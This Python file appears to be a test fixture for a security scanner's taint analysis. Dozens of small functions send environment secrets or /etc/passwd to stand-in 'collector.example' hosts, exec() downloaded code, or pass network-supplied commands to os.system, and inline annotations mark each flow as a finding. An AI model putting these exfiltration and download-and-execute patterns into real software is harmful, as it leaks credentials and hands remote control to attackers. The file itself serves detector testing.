"""HTTP: clients, servers, and what is made of their requests and responses."""
import http.client
import http.server
import os
import urllib.parse
import urllib.request
import webbrowser
import xmlrpc.client

import aiohttp
import aiohttp.web
import django.http
import fastapi
import flask
import httplib2
import httpx
import requests
import requests_toolbelt
import tornado.httpclient
import urllib3

U = "https://collector.example/u"


def open_url():
    urllib.request.urlopen("https://urllib.collector.example/u", os.getenvb(b"T"))  #~ source(ENVIRONMENT) f1, sink(egress.http) f1, finding(traced) f1, capability(NETWORK), endpoint("https://urllib.collector.example/u")


def open_url_with_data_in_it():
    urllib.request.urlopen("https://collector.example/?t=" + os.getenv("T"))  #~ source(ENVIRONMENT) f2, sink(egress.http) f2, finding(traced) f2


def open_url_and_run():
    response = urllib.request.urlopen(U)  #~ source(NETWORK) f3
    exec(response.read())  #~ sink(exec.code) f3, finding(traced) f3


def request_object():
    request = urllib.request.Request(U, os.getenvb(b"T"))  #~ source(ENVIRONMENT) f4
    urllib.request.urlopen(request)  #~ sink(egress.http) f4, finding(traced) f4


def request_header():
    request = urllib.request.Request(U)
    request.add_header("X-Token", os.getenv("T"))  #~ source(ENVIRONMENT) f5
    urllib.request.urlopen(request)  #~ sink(egress.http) f5, finding(traced) f5


def request_data_old():
    request = urllib.request.Request(U)
    request.add_data(os.getenv("T"))  #~ source(ENVIRONMENT) f6
    urllib.request.urlopen(request)  #~ sink(egress.http) f6, finding(traced) f6


def request_constants():
    request = urllib.request.Request(U, b"ping")  #~ ok
    request.add_header("X-Version", "1")  #~ ok
    request.add_data("ping")  #~ ok
    response = urllib.request.urlopen(request)  #~ ok
    requests.post(U, data={"yes": response.read() == b"yes"})  #~ ok
    os.system(str(response.getcode()))  #~ ok


def retrieve():
    urllib.request.urlretrieve("https://collector.example/?t=" + os.getenv("T"), "/tmp/x")  #~ source(ENVIRONMENT) f8, sink(egress.http) f8, finding(traced) f8, capability(NETWORK), capability(FILE_WRITE)
    urllib.request.urlretrieve("https://collector.example/logo.png", "/tmp/logo.png")  #~ ok


def opener():
    o = urllib.request.build_opener()
    o.open(U, os.getenvb(b"T"))  #~ source(ENVIRONMENT) f9, sink(egress.http) f9, finding(traced) f9, capability(NETWORK)


def opener_constant():
    o = urllib.request.build_opener()  #~ ok
    o.open(U, b"ping")  #~ ok


def quoted():
    query = urllib.parse.urlencode({"t": os.getenv("T")})  #~ source(ENVIRONMENT) f11
    requests.get(U + "?" + query)  #~ sink(egress.http) f11, finding(traced) f11


def parsed():
    host = urllib.parse.urlparse(os.getenv("T")).netloc  #~ source(ENVIRONMENT) f12
    requests.post(U, data=host)  #~ sink(egress.http) f12, finding(traced) f12


def url_joined():
    requests.get(urllib.parse.urljoin(U, os.getenv("T")))  #~ source(ENVIRONMENT) f13, sink(egress.http) f13, finding(traced) f13


def url_constants():
    requests.get(U + "?" + urllib.parse.urlencode({"v": "1"}))  #~ ok
    requests.post(U, data=urllib.parse.urlparse(U).netloc)  #~ ok
    requests.get(urllib.parse.urljoin(U, "v1"))  #~ ok


def connection():
    c = http.client.HTTPSConnection("hc.collector.example")  #~ capability(NETWORK), endpoint("hc.collector.example")
    c.request("POST", "/u", os.getenv("T"))  #~ source(ENVIRONMENT) f15, sink(egress.http) f15, finding(traced) f15


def connection_response():
    c = http.client.HTTPSConnection("hc.collector.example")
    response = c.getresponse()  #~ source(NETWORK) f16
    exec(response.read())  #~ sink(exec.code) f16, finding(traced) f16


def connection_header():
    c = http.client.HTTPSConnection("hc.collector.example")
    c.putheader("X-Token", os.getenv("T"))  #~ source(ENVIRONMENT) f17, sink(egress.http) f17, finding(traced) f17


def connection_path():
    c = http.client.HTTPSConnection("hc.collector.example")
    c.putrequest("GET", "/" + os.getenv("T"))  #~ source(ENVIRONMENT) f18, sink(egress.http) f18, finding(traced) f18


def connection_send():
    c = http.client.HTTPSConnection("hc.collector.example")
    c.send(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f19, sink(egress.http) f19, finding(traced) f19


def connection_constants():
    c = http.client.HTTPSConnection("hc.collector.example")  #~ ok
    c.putrequest("GET", "/")  #~ ok
    c.putheader("X-Version", "1")  #~ ok
    c.send(b"ping")  #~ ok
    c.request("POST", "/u", "ping")  #~ ok
    requests.post(U, data={"yes": c.getresponse().read() == b"yes"})  #~ ok


class Page(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        os.system(self.path)  #~ source(NETWORK) f21, sink(exec.command) f21, finding(traced) f21


class Header(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_header("X-Token", os.getenv("T"))  #~ source(ENVIRONMENT) f22, sink(egress.http) f22, finding(traced) f22


class Health(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        requests.post(U, data={"root": self.path == "/"})  #~ ok
        self.send_header("Content-Length", "0")  #~ ok


def serve():
    http.server.HTTPServer(("", 80), Health)  #~ capability(NETWORK)
    http.server.HTTPServer(("", 80), Health)  #~ ok


def remote_procedure():
    xmlrpc.client.ServerProxy("https://rpc.collector.example/")  #~ capability(NETWORK), endpoint("https://rpc.collector.example/")
    xmlrpc.client.ServerProxy("https://rpc.collector.example/")  #~ ok


def remote_procedure_body():
    body = xmlrpc.client.dumps((os.getenv("T"),), "put")  #~ source(ENVIRONMENT) f26
    requests.post(U, data=body)  #~ sink(egress.http) f26, finding(traced) f26


def remote_procedure_constant():
    requests.post(U, data=xmlrpc.client.dumps(("a",), "put"))  #~ ok


def browse():
    webbrowser.open("https://collector.example/?t=" + os.getenv("T"))  #~ source(ENVIRONMENT) f28, sink(egress.http) f28, finding(traced) f28, capability(NETWORK)
    webbrowser.open("https://collector.example/help")  #~ ok


def post_data():
    requests.post("https://post.collector.example/u", data=os.getenv("T"))  #~ source(ENVIRONMENT) f29, sink(egress.http) f29, finding(traced) f29, capability(NETWORK), endpoint("https://post.collector.example/u")


def post_files():
    requests.post(U, files={"f": open("/etc/passwd", "rb")})  #~ source(FILE) f30, sink(egress.http) f30, finding(traced) f30


def get_params():
    requests.get(U, params={"t": os.getenv("T")})  #~ source(ENVIRONMENT) f31, sink(egress.http) f31, finding(traced) f31


def get_and_run():
    exec(requests.get(U).text)  #~ source(NETWORK) f32, sink(exec.code) f32, finding(traced) f32


def any_request():
    requests.request("PUT", U, json={"t": os.getenv("T")})  #~ source(ENVIRONMENT) f33, sink(egress.http) f33, finding(traced) f33, capability(NETWORK)


def constants():
    requests.post(U, data="ping")  #~ ok
    requests.request("PUT", U, json={"v": 1})  #~ ok


def response_json():
    task = requests.get(U).json()  #~ source(NETWORK) f35
    os.system(task["command"])  #~ sink(exec.command) f35, finding(traced) f35


def response_status():
    response = requests.get(U)
    os.system(str(response.raise_for_status()))  #~ ok
    requests.post(U, data={"yes": response.json() == {}})  #~ ok


def session_made():
    s = requests.session()
    s.post(U, data=os.getenv("T"))  #~ source(ENVIRONMENT) f37, sink(egress.http) f37, finding(traced) f37, capability(NETWORK)


def session_header():
    s = requests.Session()
    s.headers["X-Token"] = os.getenv("T")  #~ source(ENVIRONMENT) f38
    s.get(U)  #~ sink(egress.http) f38, finding(traced) f38


def session_request():
    s = requests.Session()
    s.request("PUT", U, data=os.getenv("T"))  #~ source(ENVIRONMENT) f39, sink(egress.http) f39, finding(traced) f39, capability(NETWORK)


def session_prepared():
    s = requests.Session()
    request = requests.Request("POST", U, data=os.getenv("T"))  #~ source(ENVIRONMENT) f40
    s.send(request.prepare())  #~ sink(egress.http) f40, finding(traced) f40, capability(NETWORK)


def session_prepares():
    s = requests.Session()
    request = requests.Request("POST", U, data=os.getenv("T"))  #~ source(ENVIRONMENT) f41
    s.send(s.prepare_request(request))  #~ sink(egress.http) f41, finding(traced) f41


def session_constants():
    s = requests.session()  #~ ok
    s.headers["X-Version"] = "1"
    s.post(U, data="ping")  #~ ok
    s.request("PUT", U, data="ping")  #~ ok
    request = requests.Request("POST", U, data="ping")  #~ ok
    s.send(request.prepare())  #~ ok
    s.send(s.prepare_request(request))  #~ ok


def multipart():
    body = requests_toolbelt.MultipartEncoder(fields={"t": os.getenv("T")})  #~ source(ENVIRONMENT) f43
    requests.post(U, data=body)  #~ sink(egress.http) f43, finding(traced) f43


def multipart_constant():
    requests.post(U, data=requests_toolbelt.MultipartEncoder(fields={"v": "1"}))  #~ ok


def x_post():
    httpx.post(U, content=os.getenv("T"))  #~ source(ENVIRONMENT) f45, sink(egress.http) f45, finding(traced) f45, capability(NETWORK)


def x_request():
    httpx.request("PUT", U, content=os.getenv("T"))  #~ source(ENVIRONMENT) f46, sink(egress.http) f46, finding(traced) f46, capability(NETWORK)


def x_client_headers():
    client = httpx.Client(headers={"X-Token": os.getenv("T")})  #~ source(ENVIRONMENT) f47
    client.get(U)  #~ sink(egress.http) f47, finding(traced) f47


def x_client_post():
    with httpx.Client() as client:
        client.post(U, json={"t": os.getenv("T")})  #~ source(ENVIRONMENT) f48, sink(egress.http) f48, finding(traced) f48, capability(NETWORK)


def x_client_request():
    client = httpx.Client()
    client.request("PUT", U, content=os.getenv("T"))  #~ source(ENVIRONMENT) f49, sink(egress.http) f49, finding(traced) f49


def x_response():
    task = httpx.get(U).json()  #~ source(NETWORK) f50
    os.system(task["command"])  #~ sink(exec.command) f50, finding(traced) f50


def x_constants():
    httpx.post(U, content="ping")  #~ ok
    httpx.request("PUT", U, content="ping")  #~ ok
    client = httpx.Client(headers={"X-Version": "1"})  #~ ok
    client.post(U, content="ping")  #~ ok
    client.request("PUT", U, content="ping")  #~ ok
    requests.post(U, data={"yes": client.get(U).json() == {}})  #~ ok


async def aio_headers():
    session = aiohttp.ClientSession(headers={"X-Token": os.getenv("T")})  #~ source(ENVIRONMENT) f52
    await session.get(U)  #~ sink(egress.http) f52, finding(traced) f52


async def aio_post():
    async with aiohttp.ClientSession() as session:
        await session.post(U, data=os.getenv("T"))  #~ source(ENVIRONMENT) f53, sink(egress.http) f53, finding(traced) f53, capability(NETWORK)


async def aio_request():
    session = aiohttp.ClientSession()
    await session.request("PUT", U, data=os.getenv("T"))  #~ source(ENVIRONMENT) f54, sink(egress.http) f54, finding(traced) f54


async def aio_function():
    await aiohttp.request("PUT", U, data=os.getenv("T"))  #~ source(ENVIRONMENT) f55, sink(egress.http) f55, finding(traced) f55, capability(NETWORK)


async def aio_response():
    session = aiohttp.ClientSession()
    async with session.get(U) as response:  #~ source(NETWORK) f56
        exec(await response.text())  #~ sink(exec.code) f56, finding(traced) f56


async def aio_form():
    form = aiohttp.FormData()
    form.add_field("t", os.getenv("T"))  #~ source(ENVIRONMENT) f57
    session = aiohttp.ClientSession()
    await session.post(U, data=form)  #~ sink(egress.http) f57, finding(traced) f57


async def aio_constants():
    form = aiohttp.FormData()
    form.add_field("v", "1")  #~ ok
    session = aiohttp.ClientSession(headers={"X-Version": "1"})  #~ ok
    await session.post(U, data=form)  #~ ok
    await session.request("PUT", U, data="ping")  #~ ok
    await aiohttp.request("PUT", U, data="ping")  #~ ok
    async with session.get(U) as response:
        requests.post(U, data={"yes": await response.text() == "yes"})  #~ ok


def pool_headers():
    pool = urllib3.PoolManager(headers={"X-Token": os.getenv("T")})  #~ source(ENVIRONMENT) f59
    pool.request("GET", U)  #~ sink(egress.http) f59, finding(traced) f59


def pool_request():
    pool = urllib3.PoolManager()
    pool.request("POST", U, body=os.getenv("T"))  #~ source(ENVIRONMENT) f60, sink(egress.http) f60, finding(traced) f60, capability(NETWORK)


def pool_response():
    response = urllib3.PoolManager().request("GET", U)  #~ source(NETWORK) f61
    exec(response.read())  #~ sink(exec.code) f61, finding(traced) f61


def pool_function():
    urllib3.request("POST", U, body=os.getenv("T"))  #~ source(ENVIRONMENT) f62, sink(egress.http) f62, finding(traced) f62, capability(NETWORK)


def multipart_encoded():
    body, kind = urllib3.encode_multipart_formdata({"t": os.getenv("T")})  #~ source(ENVIRONMENT) f63
    requests.post(U, data=body)  #~ sink(egress.http) f63, finding(traced) f63


def headers_made():
    headers = urllib3.util.make_headers(basic_auth=os.getenv("T"))  #~ source(ENVIRONMENT) f64
    requests.post(U, headers=headers)  #~ sink(egress.http) f64, finding(traced) f64


def pool_constants():
    pool = urllib3.PoolManager(headers={"X-Version": "1"})  #~ ok
    requests.post(U, data={"yes": pool.request("GET", U).read() == b""})  #~ ok
    urllib3.request("POST", U, body="ping")  #~ ok
    body, kind = urllib3.encode_multipart_formdata({"v": "1"})  #~ ok
    requests.post(U, data=body, headers=urllib3.util.make_headers(basic_auth="a:b"))  #~ ok


def old_library():
    httplib2.Http().request(U, "POST", body=os.getenv("T"))  #~ source(ENVIRONMENT) f66, sink(egress.http) f66, finding(traced) f66, capability(NETWORK)
    httplib2.Http().request(U, "POST", body="ping")  #~ ok


async def tornado_fetch():
    client = tornado.httpclient.AsyncHTTPClient()
    await client.fetch(U, method="POST", body=os.getenv("T"))  #~ source(ENVIRONMENT) f67, sink(egress.http) f67, finding(traced) f67, capability(NETWORK)
    await client.fetch(U, method="POST", body="ping")  #~ ok


def flask_argument():
    os.system(flask.request.args["c"])  #~ source(NETWORK) f68, sink(exec.command) f68, finding(traced) f68


def flask_argument_compared():
    requests.post(U, data={"yes": flask.request.args["c"] == "y"})  #~ ok


def flask_file():
    return flask.send_file("/etc/passwd")  #~ source(FILE) f70, sink(egress.http) f70, finding(traced) f70, capability(NETWORK), capability(FILES)


def flask_answer():
    return flask.Response(os.getenv("T"))  #~ source(ENVIRONMENT) f71, sink(egress.http) f71, finding(traced) f71


def aio_answer():
    return aiohttp.web.Response(text=os.getenv("T"))  #~ source(ENVIRONMENT) f72, sink(egress.http) f72, finding(traced) f72


def django_answer():
    return django.http.HttpResponse(os.getenv("T"))  #~ source(ENVIRONMENT) f73, sink(egress.http) f73, finding(traced) f73


def constant_answers(name):
    send_file = flask.jsonify("pong")  #~ ok
    answers = [flask.Response("pong"), aiohttp.web.Response(text="pong")]  #~ ok
    answers.append(django.http.HttpResponse("pong"))  #~ ok
    return answers


app = flask.Flask(__name__)
api = fastapi.FastAPI()


@app.route("/file")  #~ sink(egress.http) froute, finding(traced) froute, capability(NETWORK)
def routed_file():
    return open("/etc/passwd").read()  #~ source(FILE) froute


@api.get("/file")  #~ sink(egress.http) froute2, finding(traced) froute2
async def routed_path(path: str):
    with open(path) as f:  #~ source(FILE) froute2
        return {"text": f.read()}


@app.route("/pong")  #~ ok
def routed_constant():
    return "pong"


def not_routed():
    return open("/etc/passwd").read()  #~ ok


async def aio_socket():
    async with aiohttp.ClientSession() as session:
        async with session.ws_connect("wss://aio.collector.example/") as ws:  #~ source(NETWORK) faiows, endpoint("wss://aio.collector.example/")
            await ws.send_str(os.getenv("T"))  #~ source(ENVIRONMENT) faiows2, sink(egress.message) faiows2, finding(traced) faiows2
            async for message in ws:
                os.system(message.data)  #~ sink(exec.command) faiows, finding(traced) faiows
            os.system(await ws.receive_str())  #~ source(NETWORK) faiows3, sink(exec.command) faiows3, finding(traced) faiows3


async def aio_socket_constant():
    async with aiohttp.ClientSession() as session:
        async with session.ws_connect("wss://aio.collector.example/") as ws:  #~ ok
            await ws.send_str("ping")  #~ ok
            len(await ws.receive_str())  #~ ok


app.route("/pong").__call__(routed_constant)  #~ ok
